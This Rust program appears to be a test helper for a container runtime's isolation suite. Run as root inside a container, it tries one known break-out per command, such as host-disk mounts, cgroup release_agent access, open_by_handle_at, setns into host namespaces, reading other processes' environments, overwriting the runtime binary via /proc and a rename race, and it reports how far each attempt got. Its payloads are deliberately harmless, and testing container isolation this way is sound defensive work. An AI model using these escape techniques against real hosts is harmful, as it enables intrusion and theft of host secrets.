//! Root in a container who wants out: `oci-attacker NAME [ARGUMENT]...` tries one classic break-out and says how far it came.
//!
//! It says `did WHAT` or `failed STEP ERRNO`; whether the host was reached is judged outside, by an effect. Nothing here can harm a
//! host that lets it through: clocks are set to the present, settings to values that do no harm, modules that do not exist.

use std::ffi::{CStr, CString};
use std::fs;
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::OpenOptionsExt;
use std::os::unix::net::{SocketAddr, UnixStream};

use libc::{c_int, c_long};

/// How far an attempt came: what was done, or the step that failed and how.
type Way = Result<String, (&'static str, i32)>;

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let way = match words.as_slice() {
        ["set-clock"] => set_clock(),
        ["write", path] => write(path),
        ["remount", point, file] => remount(point, file),
        ["disk", major, minor, token] => disk(major, minor, token),
        ["sysctl", value] => sysctl(value),
        ["core-pattern"] => opened("/proc/sys/kernel/core_pattern"),
        ["uevent-helper"] => uevent_helper(),
        ["cgroup", controller, name] => cgroup(controller, name),
        ["log", text] => log(text),
        ["load-module"] => outcome("finit_module", call(libc::SYS_finit_module, &[-1, 0, 0]), &[libc::EBADF]),
        ["remove-module"] => remove_module(),
        ["kexec"] => outcome("kexec_load", call(libc::SYS_kexec_load, &[0, 0, 0, 0x7fff_0000]), &[libc::EINVAL]),
        ["swap"] => swap(),
        ["enter", pid, token] => enter(pid, token),
        ["root-link", pid, token] => root_link(pid, token),
        ["environment", pid, word] => environment(pid, word),
        ["kill", pid] => {
            outcome("kill", call(libc::SYS_kill, &[pid.parse().unwrap_or(0), i64::from(libc::SIGTERM)]), &[])
        }
        ["handle", token] => handle(token),
        ["key", description] => key(description),
        ["bpf"] => bpf(),
        ["perf"] => perf(),
        ["new-user"] => new_user(),
        ["userfaultfd"] => outcome("userfaultfd", call(libc::SYS_userfaultfd, &[0]), &[]),
        ["io-uring"] => io_uring(),
        ["fsopen"] => fsopen(),
        ["socket", name] => socket(name),
        ["relative", token] => relative(token),
        ["runtime-binary"] => runtime_binary(),
        ["kernel-log"] => outcome("syslog", call(libc::SYS_syslog, &[10, 0, 0]), &[]),
        ["victim"] => {
            println_now("ready");
            std::thread::sleep(std::time::Duration::from_secs(30));
            Ok("lived".to_owned())
        }
        ["exchange", one, other] => exchange(one, other),
        _ => Err(("no such attempt", 0)),
    };
    match way {
        Ok(what) => println_now(&format!("did {what}")),
        Err((step, errno)) => println_now(&format!("failed {step} {}", nix::errno::Errno::from_raw(errno))),
    }
}

fn println_now(line: &str) {
    let mut out = std::io::stdout();
    let _ = writeln!(out, "{line}").and_then(|()| out.flush());
}

fn call(number: c_long, arguments: &[i64]) -> Result<i64, i32> {
    let mut all = [0; 6];
    all[..arguments.len()].copy_from_slice(arguments);
    let [a, b, c, d, e, f] = all;
    // SAFETY: callers pass numbers, or pointers to what outlives the call.
    let result = unsafe { libc::syscall(number, a, b, c, d, e, f) };
    if result == -1 { Err(std::io::Error::last_os_error().raw_os_error().unwrap_or(0)) } else { Ok(result) }
}

/// A call that was permitted, even though it could not succeed with what was given to it.
fn outcome(step: &'static str, result: Result<i64, i32>, permitted: &[i32]) -> Way {
    match result {
        Ok(_) => Ok(format!("{step}: 0")),
        Err(errno) if permitted.contains(&errno) => Ok(format!("{step}: permitted")),
        Err(errno) => Err((step, errno)),
    }
}

fn at<T>(step: &'static str, result: std::io::Result<T>) -> Result<T, (&'static str, i32)> {
    result.map_err(|error| (step, error.raw_os_error().unwrap_or(0)))
}

fn c(text: &str) -> CString {
    CString::new(text).unwrap_or_default()
}

fn mount(source: &str, target: &str, kind: &str, flags: u64, data: &str) -> std::io::Result<()> {
    let (source, target, kind, data) = (c(source), c(target), c(kind), c(data));
    // SAFETY: all strings end with NUL and outlive the call.
    let result = unsafe { libc::mount(source.as_ptr(), target.as_ptr(), kind.as_ptr(), flags, data.as_ptr().cast()) };
    if result == 0 { Ok(()) } else { Err(std::io::Error::last_os_error()) }
}

fn address<T>(value: *const T) -> i64 {
    value.expose_provenance().cast_signed() as i64
}

/// Sets the clock to what it shows.
fn set_clock() -> Way {
    let mut now = libc::timespec { tv_sec: 0, tv_nsec: 0 };
    // SAFETY: the structure is ours.
    let result = unsafe {
        libc::clock_gettime(libc::CLOCK_REALTIME, &raw mut now);
        libc::clock_settime(libc::CLOCK_REALTIME, &raw const now)
    };
    at(
        "clock_settime",
        if result == 0 { Ok("clock_settime: 0".to_owned()) } else { Err(std::io::Error::last_os_error()) },
    )
}

fn write(path: &str) -> Way {
    at("open", fs::write(path, "written from inside"))?;
    Ok(format!("wrote {path}"))
}

fn remount(point: &str, file: &str) -> Way {
    at("mount", mount("none", point, "", libc::MS_REMOUNT | libc::MS_BIND, ""))?;
    write(file)
}

fn disk(major: &str, minor: &str, token: &str) -> Way {
    let device = libc::makedev(major.parse().unwrap_or(0), minor.parse().unwrap_or(0));
    let path = c("/tmp/disk");
    // SAFETY: the path ends with NUL.
    let made = unsafe { libc::mknod(path.as_ptr(), libc::S_IFBLK | 0o600, device) };
    if made != 0 {
        return Err(("mknod", std::io::Error::last_os_error().raw_os_error().unwrap_or(0)));
    }
    let _ = fs::create_dir_all("/tmp/mnt");
    at("mount", mount("/tmp/disk", "/tmp/mnt", "ext4", 0, ""))?;
    at("read", fs::read_to_string(format!("/tmp/mnt{token}")))
}

fn sysctl(value: &str) -> Way {
    let _ = fs::create_dir_all("/tmp/proc");
    let path = "sys/kernel/printk_delay";
    let direct = fs::write(format!("/proc/{path}"), value);
    if direct.is_err() && mount("proc", "/tmp/proc", "proc", 0, "").is_ok() {
        at("write", fs::write(format!("/tmp/proc/{path}"), value))?;
        return Ok("wrote it through a new proc".to_owned());
    }
    at("write", direct)?;
    Ok("wrote it".to_owned())
}

fn opened(path: &str) -> Way {
    at("open", fs::OpenOptions::new().write(true).open(path))?;
    Ok(format!("opened {path} for writing"))
}

fn uevent_helper() -> Way {
    let _ = fs::create_dir_all("/tmp/sys");
    at("mount", mount("sysfs", "/tmp/sys", "sysfs", 0, ""))?;
    // Where no helper is built in, its neighbour has the same owner.
    let names = [
        "/tmp/sys/kernel/uevent_helper",
        "/tmp/sys/kernel/profiling",
        "/tmp/sys/power/state",
        "/tmp/sys/kernel/rcu_expedited",
    ];
    match names.iter().find(|name| fs::symlink_metadata(name).is_ok()) {
        Some(name) => opened(name),
        None => Err(("open", libc::ENOENT)),
    }
}

fn cgroup(controller: &str, name: &str) -> Way {
    let _ = fs::create_dir_all("/tmp/cg");
    at("mount", mount("cgroup", "/tmp/cg", "cgroup", 0, controller))?;
    at("mkdir", fs::create_dir(format!("/tmp/cg/{name}")))?;
    let agent = opened("/tmp/cg/release_agent").is_ok();
    Ok(format!("made a group, release_agent {}", if agent { "opened for writing" } else { "not opened" }))
}

fn log(text: &str) -> Way {
    let path = c("/tmp/kmsg");
    // SAFETY: the path ends with NUL.
    if unsafe { libc::mknod(path.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 11)) } != 0 {
        return Err(("mknod", std::io::Error::last_os_error().raw_os_error().unwrap_or(0)));
    }
    let mut log = at("open", fs::OpenOptions::new().write(true).open("/tmp/kmsg"))?;
    at("write", log.write_all(format!("{text}\n").as_bytes()))?;
    Ok("wrote a line".to_owned())
}

fn remove_module() -> Way {
    let name = c("no_such_module_of_any_kernel");
    let result = call(libc::SYS_delete_module, &[address(name.as_ptr()), i64::from(libc::O_NONBLOCK)]);
    outcome("delete_module", result, &[libc::ENOENT])
}

fn swap() -> Way {
    let name = c("/no/such/file");
    outcome("swapon", call(libc::SYS_swapon, &[address(name.as_ptr()), 0]), &[libc::ENOENT])
}

fn enter(pid: &str, token: &str) -> Way {
    let namespace = at("open", fs::File::open(format!("/proc/{pid}/ns/mnt")))?;
    outcome("setns", call(libc::SYS_setns, &[i64::from(namespace.as_raw_fd()), 0]), &[])?;
    at("read", fs::read_to_string(token))
}

fn root_link(pid: &str, token: &str) -> Way {
    at("read", fs::read_to_string(format!("/proc/{pid}/root{token}")))
}

fn environment(pid: &str, word: &str) -> Way {
    let text = at("read", fs::read(format!("/proc/{pid}/environ")))?;
    let text = String::from_utf8_lossy(&text).into_owned();
    text.split('\0').find(|entry| entry.starts_with(word)).map(str::to_owned).ok_or(("find", 0))
}

/// Opens the root of the file system below a bind mount by its handle: inode 2 of ext4.
fn handle(token: &str) -> Way {
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: c_int,
        inode: u32,
        generation: u32,
    }
    let root = Handle { bytes: 8, kind: 1, inode: 2, generation: 0 };
    let mount = at("open", fs::File::open("/"))?;
    let flags = i64::from(libc::O_RDONLY | libc::O_DIRECTORY);
    let result = call(libc::SYS_open_by_handle_at, &[i64::from(mount.as_raw_fd()), address(&raw const root), flags]);
    let directory = result.map_err(|errno| ("open_by_handle_at", errno))?;
    at("read", fs::read_to_string(format!("/proc/self/fd/{directory}{token}")))
}

fn key(description: &str) -> Way {
    let (kind, description) = (c("user"), c(description));
    // The keyring of the user, of which there is one for each user namespace.
    let search = call(libc::SYS_keyctl, &[10, -4, address(kind.as_ptr()), address(description.as_ptr()), 0]);
    let found = search.map_err(|errno| ("keyctl search", errno))?;
    let mut payload = [0_u8; 64];
    let length = call(libc::SYS_keyctl, &[11, found, address(payload.as_mut_ptr()), 64])
        .map_err(|errno| ("keyctl read", errno))?;
    let length = usize::try_from(length).unwrap_or(0).min(payload.len());
    Ok(String::from_utf8_lossy(&payload[..length]).into_owned())
}

fn bpf() -> Way {
    // union bpf_attr for BPF_MAP_CREATE of an array: type, key size, value size, entries.
    let attributes: [u32; 16] = [2, 4, 4, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    outcome("bpf", call(libc::SYS_bpf, &[0, address(attributes.as_ptr()), 64]), &[])
}

fn perf() -> Way {
    // struct perf_event_attr: a software counter of context switches, on the first processor, of all processes.
    let mut attributes = [0_u32; 32];
    attributes[0] = 1;
    attributes[1] = 128;
    attributes[2] = 3;
    outcome("perf_event_open", call(libc::SYS_perf_event_open, &[address(attributes.as_ptr()), -1, 0, -1, 0]), &[])
}

fn new_user() -> Way {
    outcome("unshare", call(libc::SYS_unshare, &[i64::from(libc::CLONE_NEWUSER | libc::CLONE_NEWNS)]), &[])?;
    let _ = fs::write("/proc/self/setgroups", "deny");
    at("uid_map", fs::write("/proc/self/uid_map", "0 0 1"))?;
    at("gid_map", fs::write("/proc/self/gid_map", "0 0 1"))?;
    for name in ["low", "up", "work", "all"] {
        let _ = fs::create_dir_all(format!("/dev/shm/{name}"));
    }
    let options = "lowerdir=/dev/shm/low,upperdir=/dev/shm/up,workdir=/dev/shm/work";
    at("mount overlay", mount("overlay", "/dev/shm/all", "overlay", 0, options))?;
    Ok("an overlay in a new user namespace".to_owned())
}

fn io_uring() -> Way {
    let parameters = [0_u32; 64];
    outcome("io_uring_setup", call(libc::SYS_io_uring_setup, &[1, address(parameters.as_ptr())]), &[])
}

fn fsopen() -> Way {
    let kind: &CStr = c"ext4";
    outcome("fsopen", call(libc::SYS_fsopen, &[address(kind.as_ptr()), 0]), &[])
}

fn socket(name: &str) -> Way {
    let place = at("name", SocketAddr::from_abstract_name(name))?;
    let mut stream = at("connect", UnixStream::connect_addr(&place))?;
    let mut text = String::new();
    at("read", stream.read_to_string(&mut text))?;
    Ok(text)
}

/// Reads a token of the host from a directory that may have leaked in.
fn relative(token: &str) -> Way {
    let mut last = Err(("read", libc::ENOENT));
    for depth in 1..12 {
        let path = format!("{}{}", "../".repeat(depth), token.trim_start_matches('/'));
        last = at("read", fs::read_to_string(path));
        if last.is_ok() {
            break;
        }
    }
    last
}

/// Waits for a process of the runtime in this container, and overwrites the file that it runs.
fn runtime_binary() -> Way {
    println_now("ready");
    let own = fs::read_link("/proc/self/exe").unwrap_or_default();
    let (mut seen, mut last) = (0, libc::ENOENT);
    let end = std::time::Instant::now() + std::time::Duration::from_secs(3);
    while std::time::Instant::now() < end {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let exe = entry.path().join("exe");
            if fs::read_link(&exe).is_ok_and(|link| link != own) {
                seen += 1;
                // Text that runs cannot be written: the descriptor is kept until it does not run any more.
                let Ok(file) = fs::OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&exe) else {
                    continue;
                };
                for _ in 0..2000 {
                    match fs::OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", file.as_raw_fd())) {
                        Ok(mut target) => {
                            at("write", target.write_all(b"overwritten"))?;
                            return Ok("overwrote the runtime".to_owned());
                        }
                        Err(error) => last = error.raw_os_error().unwrap_or(0),
                    }
                }
            }
        }
    }
    if seen == 0 {
        return Err(("see it", libc::ESRCH));
    }
    Err(("open for writing", last))
}

/// Exchanges two names for as long as it lives, as somebody who shares a volume could.
fn exchange(one: &str, other: &str) -> Way {
    let (one, other) = (c(one), c(other));
    println_now("ready");
    loop {
        // RENAME_EXCHANGE
        let here = i64::from(libc::AT_FDCWD);
        call(libc::SYS_renameat2, &[here, address(one.as_ptr()), here, address(other.as_ptr()), 2])
            .map_err(|errno| ("renameat2", errno))?;
    }
}
